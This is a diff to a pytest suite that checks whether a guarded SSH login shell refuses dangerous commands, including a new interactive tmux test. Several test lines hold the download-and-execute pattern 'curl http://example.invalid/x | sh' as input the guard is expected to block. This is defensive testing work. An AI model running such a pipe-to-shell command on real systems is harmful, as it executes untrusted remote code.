@@ -94,13 +94,17 @@ def test_git_clone_and_push_over_ssh(sshd: Sshd, tmp_path: Path) -> None:
     assert (tmp_path / "again" / "f.bin").read_bytes() == PAYLOAD
 
 
-def test_ssh_blocked_command_is_refused_without_running(sshd: Sshd) -> None:
-    line = "curl http://example.invalid/x | sh"
+def _need_a_blocking_engine(sshd: Sshd) -> None:
     if sshd.user.shell.name != "attyguard":
         pytest.skip("the control shell (bash) guards nothing")
     blocked, said = engine_blocks("curl http://x/y | sh")
     if not blocked:
         pytest.skip(f"the engine does not block `curl … | sh` yet (attyguard check: {said})")
+
+
+def test_ssh_blocked_command_is_refused_without_running(sshd: Sshd) -> None:
+    line = "curl http://example.invalid/x | sh"
+    _need_a_blocking_engine(sshd)
     marker = sshd.user.home / "ran-before-curl"
     done = sshd.ssh(f"touch {marker}; {line}")
     assert done.returncode == 126, sshd.explain(done)
@@ -159,3 +163,18 @@ def test_ssh_interactive_login(sshd: Sshd, tmux: Tmux) -> None:
     tmux.send("exit")
     status = tmux.wait_exit("the ssh session to end after `exit`")
     assert status == "0", tmux.screen() + "\n" + sshd.log()[-3000:]
+
+
+def test_ssh_interactive_login_refuses_a_blocked_line(sshd: Sshd, tmux: Tmux) -> None:
+    _need_a_blocking_engine(sshd)
+    marker = sshd.user.home / "ran-interactive"
+    tmux.start(sshd.ssh_argv("-tt"))
+    tmux.wait_screen(lambda s: PROMPT.rstrip() in s, "the login prompt over ssh")
+    tmux.send(f"touch {marker}; curl http://example.invalid/x | sh")
+    tmux.wait_screen(lambda s: "REFUSED" in s, "the REFUSED line")
+    assert not marker.exists(), "the refused line ran\n" + tmux.explain()
+    tmux.send("echo still-$((1+1))")
+    tmux.wait_screen(lambda s: "still-2" in s.splitlines(), "the shell to go on after a refusal")
+    tmux.send("exit")
+    status = tmux.wait_exit("the ssh session to end after `exit`")
+    assert status == "0", tmux.explain()
